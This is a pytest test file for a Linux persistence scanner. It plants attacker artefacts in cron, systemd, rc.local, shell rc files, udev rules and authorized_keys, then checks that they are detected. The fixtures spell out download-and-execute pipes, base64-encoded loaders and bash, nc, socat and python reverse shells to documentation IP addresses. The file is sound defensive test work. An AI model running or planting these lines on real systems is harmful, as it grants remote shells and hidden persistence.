"""The persistence scan on roots planted like incident 4, on hostile roots, and on the real Debian trees
(which must come out clean)."""

from __future__ import annotations

import hashlib
import json
import os
import random
import shutil
import stat
import time

import pytest
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence import scan as persistence
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence.sources import authorized_keys

from support.planted import HIDDEN_JOB, KEY, STOCK_CRONTAB, SYSUPDATE, UNIT, Link, found, plant
from support.trees import SUITES, debian_tree

pytest_plugins = ("support.planted_roots",)


# ---- what is found ------------------------------------------------------------------------------

PAYLOAD = {"/usr/bin/.sysupdate": (SYSUPDATE, 0o755)}
# The payload lies among the packaged programs, where no package put it.
PAYLOAD_UNOWNED = ("unowned-file-in-packaged-dir", "package_file", "/usr/bin/.sysupdate", None)

# name: (files planted on the base root, the findings expected: (rule, location, path, line))
CASES = {
    "hidden_job_every_3_minutes": (
        {"/etc/crontab": STOCK_CRONTAB + HIDDEN_JOB, **PAYLOAD},
        {
            ("exec-hidden-path", "cron", "/etc/crontab", 5),
            ("frequent-unpackaged-job", "cron", "/etc/crontab", 5),
            PAYLOAD_UNOWNED,
        },
    ),
    "hidden_job_behind_nul_blocks": (
        {"/etc/crontab": STOCK_CRONTAB.encode() + b"\0" * 4096 + b"\n\0\0" + HIDDEN_JOB.encode(), **PAYLOAD},
        {
            ("exec-hidden-path", "cron", "/etc/crontab", 6),
            ("frequent-unpackaged-job", "cron", "/etc/crontab", 6),
            PAYLOAD_UNOWNED,
        },
    ),
    "rc_local_starts_it": (
        {"/etc/rc.local": ("#!/bin/sh -e\n/usr/bin/.sysupdate &\nexit 0\n", 0o755), **PAYLOAD},
        {("exec-hidden-path", "rc_local", "/etc/rc.local", 2), PAYLOAD_UNOWNED},
    ),
    "systemd_unit_and_wants_link": (
        {
            "/etc/systemd/system/sysupdate.service": UNIT,
            "/etc/systemd/system/multi-user.target.wants/sysupdate.service": Link(
                "/etc/systemd/system/sysupdate.service"
            ),
            **PAYLOAD,
        },
        {
            ("exec-hidden-path", "systemd_unit", "/etc/systemd/system/sysupdate.service", 5),
            (
                "unpackaged-startup-runs-suspicious",
                "systemd_unit",
                "/etc/systemd/system/sysupdate.service",
                5,
            ),
            ("unpackaged-startup-item", "systemd_unit", "/etc/systemd/system/sysupdate.service", None),
            ("systemd-enabled-unowned-unit", "systemd_unit", "/etc/systemd/system/sysupdate.service", 5),
            PAYLOAD_UNOWNED,
        },
    ),
    "curl_pipe_sh_in_cron_d": (
        {
            "/etc/cron.d/update": "*/10 * * * * root (curl -fsSL http://203.0.113.7/ab.sh || "
            "wget -q -O- http://203.0.113.7/ab.sh) | sh\n"
        },
        {("download-execute", "cron", "/etc/cron.d/update", 1)},
    ),
    "base64_decode_to_bash_in_a_user_crontab": (
        {
            "/var/spool/cron/crontabs/alice": (
                "# DO NOT EDIT\n@reboot echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvc3wgc2g= | base64 -d | bash\n",
                0o600,
                1000,
            )
        },
        {("base64-execute", "cron", "/var/spool/cron/crontabs/alice", 2)},
    ),
    "reverse_shell_in_root_bashrc": (
        {"/root/.bashrc": "alias ll='ls -l'\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\n"},
        {("reverse-shell", "shell_rc", "/root/.bashrc", 2)},
    ),
    "python_socket_one_liner_in_profile_d": (
        {
            "/etc/profile.d/locale-fix.sh": "python3 -c 'import socket,subprocess,os;s=socket.socket();"
            's.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0)\' &\n'
        },
        {("reverse-shell", "shell_rc", "/etc/profile.d/locale-fix.sh", 1)},
    ),
    "nc_e_in_anacrontab": (
        {"/etc/anacrontab": "SHELL=/bin/sh\n1\t5\tcron.daily\tnc -e /bin/sh 203.0.113.7 4444\n"},
        {("reverse-shell", "anacron", "/etc/anacrontab", 2)},
    ),
    "mkfifo_shell_in_an_at_job": (
        {
            "/var/spool/cron/atjobs/a0000101a2b3c4": (
                "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /root || {\n exit 1\n}\n"
                "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n",
                0o700,
            )
        },
        {
            ("reverse-shell", "at", "/var/spool/cron/atjobs/a0000101a2b3c4", 8),
            ("unpackaged-startup-runs-suspicious", "at", "/var/spool/cron/atjobs/a0000101a2b3c4", 8),
            ("unpackaged-startup-item", "at", "/var/spool/cron/atjobs/a0000101a2b3c4", None),
        },
    ),
    "socat_in_a_user_unit_of_alice": (
        {
            "/home/alice/.config/systemd/user/pulse-helper.service": (
                "[Service]\nExecStart=/usr/bin/socat TCP:203.0.113.7:4444 EXEC:/bin/bash\n",
                0o644,
                1000,
            )
        },
        {
            ("reverse-shell", "systemd_unit", "/home/alice/.config/systemd/user/pulse-helper.service", 2),
            (
                "unpackaged-startup-runs-suspicious",
                "systemd_unit",
                "/home/alice/.config/systemd/user/pulse-helper.service",
                2,
            ),
            (
                "unpackaged-startup-item",
                "systemd_unit",
                "/home/alice/.config/systemd/user/pulse-helper.service",
                None,
            ),
        },
    ),
    "udev_run_from_var_tmp": (
        {
            "/etc/udev/rules.d/99-net.rules": 'ACTION=="add", SUBSYSTEM=="net", '
            "RUN+=\"/bin/sh -c '/var/tmp/.n/run'\"\n"
        },
        {
            ("exec-temp-dir", "udev", "/etc/udev/rules.d/99-net.rules", 1),
            ("exec-hidden-path", "udev", "/etc/udev/rules.d/99-net.rules", 1),
            ("unpackaged-startup-runs-suspicious", "udev", "/etc/udev/rules.d/99-net.rules", 1),
            ("unpackaged-startup-item", "udev", "/etc/udev/rules.d/99-net.rules", None),
        },
    ),
    "ld_so_preload_line": (
        {
            "/etc/ld.so.preload": "# hides the miner\n/usr/local/lib/libprocesshider.so\n",
            "/usr/local/lib/libprocesshider.so": b"\x7fELF\x02\x01\x01",
        },
        {("ld-so-preload", "ld_preload", "/etc/ld.so.preload", 2)},
    ),
    "authorized_keys_forced_command": (
        {"/root/.ssh/authorized_keys": f'{KEY} admin@laptop\ncommand="/tmp/.x/run",no-pty {KEY} x@y\n'},
        {
            ("exec-temp-dir", "authorized_keys", "/root/.ssh/authorized_keys", 2),
            ("exec-hidden-path", "authorized_keys", "/root/.ssh/authorized_keys", 2),
            ("authorized-key-forced-command", "authorized_keys", "/root/.ssh/authorized_keys", 2),
            ("authorized-key-root", "authorized_keys", "/root/.ssh/authorized_keys", 1),
            ("authorized-key-root", "authorized_keys", "/root/.ssh/authorized_keys", 2),
        },
    ),
    "authorized_keys_of_alice_owned_by_mallory": (
        {"/home/alice/.ssh/authorized_keys": (f"{KEY} alice@laptop\n\n{KEY} mallory\n", 0o600, 1001)},
        {
            ("authorized-keys-foreign-owner", "authorized_keys", "/home/alice/.ssh/authorized_keys", 1),
            ("authorized-keys-foreign-owner", "authorized_keys", "/home/alice/.ssh/authorized_keys", 3),
            ("authorized-key-user", "authorized_keys", "/home/alice/.ssh/authorized_keys", 1),
            ("authorized-key-user", "authorized_keys", "/home/alice/.ssh/authorized_keys", 3),
        },
    ),
    "indicator_paths_on_disk": (
        {"/tmp/kdevtmpfsi": (b"\x7fELF", 0o755), "/home/alice/.configrc/a/upd": ("#!/bin/sh\n", 0o755, 1000)},
        {
            ("known-indicator-path", "indicator_path", "/tmp/kdevtmpfsi", None),
            ("known-indicator-path", "indicator_path", "/home/alice/.configrc", None),
        },
    ),
    "cron_hourly_dropper_named_0": (
        {
            "/etc/cron.hourly/0": (
                "wget --quiet http://198.51.100.9/0 -O- 2>/dev/null|sh>/dev/null 2>&1\n",
                0o755,
            )
        },
        {
            ("download-execute", "cron_script", "/etc/cron.hourly/0", 1),
            ("unpackaged-startup-runs-suspicious", "cron_script", "/etc/cron.hourly/0", 1),
            ("unpackaged-startup-runs-suspicious", "cron_script", "/etc/cron.hourly/0", None),
            ("known-indicator-path", "cron_script", "/etc/cron.hourly/0", None),
        },
    ),
    "timer_every_2_minutes_running_an_unowned_program": (
        {
            "/etc/systemd/system/sync-check.timer": "[Timer]\nOnBootSec=1min\nOnUnitActiveSec=2min\n",
            "/etc/systemd/system/sync-check.service": "[Service]\nExecStart=/usr/local/bin/sync-check\n",
            "/usr/local/bin/sync-check": ("#!/bin/sh\n", 0o755),
        },
        {
            ("frequent-unpackaged-job", "systemd_timer", "/etc/systemd/system/sync-check.timer", None),
            ("unpackaged-startup-item", "systemd_timer", "/etc/systemd/system/sync-check.timer", None),
            ("unpackaged-startup-item", "systemd_unit", "/etc/systemd/system/sync-check.service", None),
        },
    ),
    "generator_running_from_dev_shm": (
        {"/etc/systemd/system-generators/net-gen": ("#!/bin/sh\n/dev/shm/.x/m -B >/dev/null\n", 0o755)},
        {
            ("exec-temp-dir", "systemd_generator", "/etc/systemd/system-generators/net-gen", 2),
            ("exec-hidden-path", "systemd_generator", "/etc/systemd/system-generators/net-gen", 2),
            ("known-indicator-path", "systemd_generator", "/etc/systemd/system-generators/net-gen", 2),
            (
                "unpackaged-startup-runs-suspicious",
                "systemd_generator",
                "/etc/systemd/system-generators/net-gen",
                2,
            ),
            ("unpackaged-startup-item", "systemd_generator", "/etc/systemd/system-generators/net-gen", None),
        },
    ),
    "init_script_and_xdg_autostart": (
        {
            "/etc/init.d/sysupdate": ("#!/bin/sh\n### BEGIN INIT INFO\n/usr/bin/.sysupdate &\n", 0o755),
            "/etc/xdg/autostart/update.desktop": "[Desktop Entry]\nType=Application\n"
            'Exec=/bin/sh -c "wget -qO- http://203.0.113.7/x | sh"\n',
            **PAYLOAD,
        },
        {
            ("exec-hidden-path", "init_script", "/etc/init.d/sysupdate", 3),
            ("unpackaged-startup-runs-suspicious", "init_script", "/etc/init.d/sysupdate", 3),
            ("unpackaged-startup-item", "init_script", "/etc/init.d/sysupdate", None),
            ("download-execute", "xdg_autostart", "/etc/xdg/autostart/update.desktop", 3),
            ("unpackaged-startup-runs-suspicious", "xdg_autostart", "/etc/xdg/autostart/update.desktop", 3),
            ("unpackaged-startup-item", "xdg_autostart", "/etc/xdg/autostart/update.desktop", None),
            PAYLOAD_UNOWNED,
        },
    ),
    "unit_linked_from_outside_the_unit_directories_and_a_drop_in": (
        {
            "/opt/evil/evil.service": "[Service]\nExecStart=/dev/shm/.x/m\n",
            "/etc/systemd/system/evil.service": Link("/opt/evil/evil.service"),
            "/etc/systemd/system/cron.service.d/override.conf": "[Service]\nExecStartPre=-/var/tmp/prep\n",
        },
        {
            ("exec-temp-dir", "systemd_unit", "/etc/systemd/system/evil.service", 2),
            ("exec-hidden-path", "systemd_unit", "/etc/systemd/system/evil.service", 2),
            ("known-indicator-path", "systemd_unit", "/etc/systemd/system/evil.service", 2),
            ("unpackaged-startup-runs-suspicious", "systemd_unit", "/etc/systemd/system/evil.service", 2),
            ("unpackaged-startup-item", "systemd_unit", "/etc/systemd/system/evil.service", None),
            ("exec-temp-dir", "systemd_unit", "/etc/systemd/system/cron.service.d/override.conf", 2),
            (
                "unpackaged-startup-runs-suspicious",
                "systemd_unit",
                "/etc/systemd/system/cron.service.d/override.conf",
                2,
            ),
            (
                "unpackaged-startup-item",
                "systemd_unit",
                "/etc/systemd/system/cron.service.d/override.conf",
                None,
            ),
        },
    ),
    "an_admins_ordinary_jobs_are_not_findings": (
        {
            "/etc/cron.d/backup": "MAILTO=root\n0 2 * * * root /usr/local/sbin/backup.sh --to /var/tmp\n"
            "*/5 * * * * root /usr/bin/true\n# */1 * * * * root curl http://x | sh\n",
            "/usr/local/sbin/backup.sh": ("#!/bin/sh\n", 0o755),
            "/etc/profile.d/tmp.sh": "export TMPDIR=/tmp\n[ -d ~/.local/bin ] && PATH=~/.local/bin:$PATH\n",
            "/root/.profile": '. "$HOME/.bashrc"\nmesg n 2> /dev/null || true\n',
            "/etc/systemd/system/rsync.service": Link("/dev/null"),
            "/etc/cron.daily/.placeholder": "# DO NOT EDIT OR REMOVE\n",
        },
        set(),
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_planted_roots(name, base, rules):
    files, expected = CASES[name]
    for path, spec in files.items():
        plant(base, path, *(spec if isinstance(spec, tuple) else (spec,)))

    result = persistence.scan(str(base), rules)

    assert found(result) == expected
    assert result.notes == []


def test_a_finding_carries_the_evidence_of_its_file_and_of_what_it_runs(base, rules):
    plant(base, "/etc/crontab", STOCK_CRONTAB + HIDDEN_JOB)
    plant(base, "/usr/bin/.sysupdate", SYSUPDATE, 0o755)
    os.utime(base / "usr/bin/.sysupdate", (1700000000, 1700000000))

    result = persistence.scan(str(base), rules)
    finding = next(f for f in result.finding_dicts() if f["rule"] == "exec-hidden-path")

    assert {k: finding[k] for k in ("location", "path", "line", "text", "command", "user", "severity")} == {
        "location": "cron",
        "path": "/etc/crontab",
        "line": 5,
        "text": HIDDEN_JOB.strip(),
        "command": "/usr/bin/.sysupdate",
        "user": "root",
        "severity": "high",
    }
    assert finding["matched"] == ["runs: /usr/bin/.sysupdate"]
    assert finding["description"].startswith("Runs a program from a hidden path")
    crontab_bytes = (base / "etc/crontab").read_bytes()
    assert finding["file"]["sha256"] == hashlib.sha256(crontab_bytes).hexdigest()
    assert (finding["file"]["owner"], finding["file"]["mode"], finding["file"]["package"]) == (
        "root:root",
        "0644",
        "cron-daemon-common",
    )
    payload = finding["payload"]
    assert payload == {
        "path": "/usr/bin/.sysupdate",
        "resolved": "/usr/bin/.sysupdate",
        "links": [],
        "type": "file",
        "owner": "root:root",
        "uid": 0,
        "gid": 0,
        "mode": "0755",
        "size": len(SYSUPDATE),
        "mtime": "2023-11-14T22:13:20Z",
        "ctime": payload["ctime"],
        "sha256": hashlib.sha256(SYSUPDATE).hexdigest(),
        "package": None,
        "problem": "",
    }
    assert payload["ctime"].endswith("Z") and len(payload["ctime"]) == 20


def test_owning_packages_are_found_through_merged_usr_links(base, rules):
    """dpkg lists /bin/dash; the job names /usr/bin/dash, which /bin (a link to usr/bin) also reaches."""
    plant(base, "/etc/cron.d/poll", "*/2 * * * * root /usr/bin/dash /usr/local/bin/poll.sh\n")
    plant(base, "/usr/local/bin/poll.sh", "#!/bin/sh\n", 0o755)

    result = persistence.scan(str(base), rules)
    finding = next(f for f in result.findings if f.rule.id == "frequent-unpackaged-job")

    assert finding.item.payload == "/usr/local/bin/poll.sh"
    assert result.scanner.package_of("/usr/bin/dash") == "dash"
    assert result.scanner.package_of("/bin/dash") == "dash"


def test_without_a_package_database_nothing_counts_as_unowned(small_root, rules):
    plant(small_root, "/etc/crontab", HIDDEN_JOB)
    plant(small_root, "/usr/bin/.sysupdate", SYSUPDATE, 0o755)

    result = persistence.scan(str(small_root), rules)

    assert found(result) == {("exec-hidden-path", "cron", "/etc/crontab", 1)}
    assert result.package_database is False
    assert [n["path"] for n in result.notes] == ["/var/lib/dpkg/status, /var/lib/rpm, /usr/lib/sysimage/rpm"]
    assert "no file counts as owned or as unowned" in result.notes[0]["problem"]


def test_on_a_cronie_root_a_job_only_cronie_reads_is_found(small_root, rules):
    """cronie's '-' keeps a job out of its log; Debian's cron would refuse the line, cronie runs it."""
    plant(small_root, "/usr/sbin/crond", "\x7fELF", 0o755)
    plant(small_root, "/etc/cron.d/sysstat.conf", "-" + HIDDEN_JOB)
    plant(small_root, "/etc/cron.d/old.rpmsave", HIDDEN_JOB)
    plant(small_root, "/usr/bin/.sysupdate", SYSUPDATE, 0o755)

    result = persistence.scan(str(small_root), rules)

    assert ("exec-hidden-path", "cron", "/etc/cron.d/sysstat.conf", 1) in found(result)


@pytest.mark.parametrize(
    ("line", "command"),
    [
        (f"{KEY} a@b", ""),
        (f'command="/tmp/x \\"q\\"",no-pty {KEY} a@b', '/tmp/x "q"'),
        (f'no-pty,command="echo a b" {KEY}', "echo a b"),
        (f'from="10.0.0.1" {KEY}', ""),
    ],
)
def test_forced_command(line, command):
    assert authorized_keys.forced_command(line) == command


# ---- hostile roots ------------------------------------------------------------------------------


def test_link_loops_links_out_of_the_root_and_odd_files_are_notes(base, rules, tmp_path, deadline):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "evil").write_text("* * * * * root curl http://203.0.113.7/x | sh\n")
    plant(base, "/etc/cron.d/loop-a", Link("loop-b"))
    plant(base, "/etc/cron.d/loop-b", Link("loop-a"))
    plant(base, "/etc/cron.d/above", Link("../../../../../../../../" + str(outside / "evil")))
    plant(base, "/etc/cron.d/absolute", Link(str(outside / "evil")))
    shutil.rmtree(base / "home/alice")
    plant(base, "/home/alice", Link(str(outside)))
    (base / "etc/cron.d/subdir").mkdir()
    os.mkfifo(base / "etc/cron.d/fifo")
    os.mknod(base / "etc/ld.so.preload", stat.S_IFCHR | 0o600, os.makedev(1, 5))
    (base / "etc/crontab").unlink()
    (base / "etc/crontab").mkdir()

    with deadline(10):
        result = persistence.scan(str(base), rules)

    assert [f for f in result.findings if f.rule.id != "human-account"] == []
    problems = {n["path"]: n["problem"] for n in result.notes}
    assert "too many levels of symbolic links" in problems["/etc/cron.d/loop-a"]
    assert "too many levels of symbolic links" in problems["/etc/cron.d/loop-b"]
    assert problems["/etc/cron.d/above"].startswith("a symbolic link leads above the root")
    assert problems["/etc/cron.d/absolute"].startswith("a dangling symbolic link")
    assert problems["/etc/cron.d/subdir"] == "is a directory, not a regular file: not read"
    assert problems["/etc/cron.d/fifo"] == "is a fifo, not a regular file: not read"
    assert problems["/etc/ld.so.preload"] == "is a character device, not a regular file: not read"
    assert problems["/etc/crontab"] == "is a directory, not a regular file: not read"
    assert str(outside) not in json.dumps(result.finding_dicts())


def test_a_50_mb_crontab_is_a_note_and_a_1_mb_line_is_read(base, rules, deadline):
    plant(base, "/etc/cron.d/huge", b"\0" * (50 << 20))
    long_line = "/usr/bin/true " + "x" * (1 << 20) + " ; /tmp/y"
    plant(base, "/root/.bashrc", long_line + "\n")

    started = time.process_time()  # CPU time: a busy machine does not stretch it
    with deadline(20):
        result = persistence.scan(str(base), rules)

    assert time.process_time() - started < 5
    assert [n["path"] for n in result.notes] == ["/etc/cron.d/huge"]
    assert "is larger than 16777216 bytes, not read" in result.notes[0]["problem"]
    assert found(result) == {("exec-temp-dir", "shell_rc", "/root/.bashrc", 1)}
    assert result.finding_dicts()[0]["text"].endswith(f"... ({len(long_line)} characters)")


def test_control_and_non_ascii_characters_are_shown_escaped(base, rules):
    """A right-to-left override or a terminal escape in a job must not rewrite the report showing it."""
    plant(base, "/root/.bashrc", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # \u202egnp.\x1b[2K\n")

    result = persistence.scan(str(base), rules)
    finding = next(f for f in result.finding_dicts() if f["rule"] == "reverse-shell")

    assert finding["text"] == "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # \\xe2\\x80\\xaegnp.\\x1b[2K"


def test_binary_garbage_is_read_without_a_crash(base, rules, deadline):
    garbage = random.Random(4).randbytes(256 << 10)
    plant(base, "/etc/cron.d/garbage", garbage)
    plant(base, "/etc/init.d/garbage", garbage, 0o755)
    plant(base, "/etc/profile.d/garbage.sh", garbage)
    plant(base, "/etc/systemd/system/garbage.service", garbage)
    plant(base, "/etc/systemd/system-generators/elf", (base / "usr/bin/true").read_bytes(), 0o755)

    with deadline(20):
        result = persistence.scan(str(base), rules)

    assert {f.rule.severity for f in result.findings} == {"info"}
    assert {f.item.file.path for f in result.findings if f.rule.id != "human-account"} == {
        "/etc/init.d/garbage",
        "/etc/systemd/system/garbage.service",
        "/etc/systemd/system-generators/elf",
    }
    json.dumps(result.finding_dicts())  # reports of garbage are still valid JSON


# ---- the real Debian trees ----------------------------------------------------------------------


@pytest.mark.parametrize("suite", SUITES)
def test_stock_debian_roots_have_nothing_above_info_and_scan_fast(suite, rules, capsys):
    root = str(debian_tree(suite))
    timings = []
    for _ in range(2):
        started = time.process_time()  # CPU time: a busy machine does not stretch it
        result = persistence.scan(root, rules)
        timings.append(time.process_time() - started)

    assert [f for f in result.finding_dicts() if f["severity"] != "info"] == []
    assert result.notes == []
    assert result.package_database is True
    kinds = {item.kind for item in result.scanner.items}
    assert {
        "cron",
        "cron_script",
        "init_script",
        "systemd_unit",
        "systemd_timer",
        "udev",
        "shell_rc",
    } <= kinds
    assert result.items > 200
    assert min(timings) < 1.0
    assert capsys.readouterr() == ("", "")
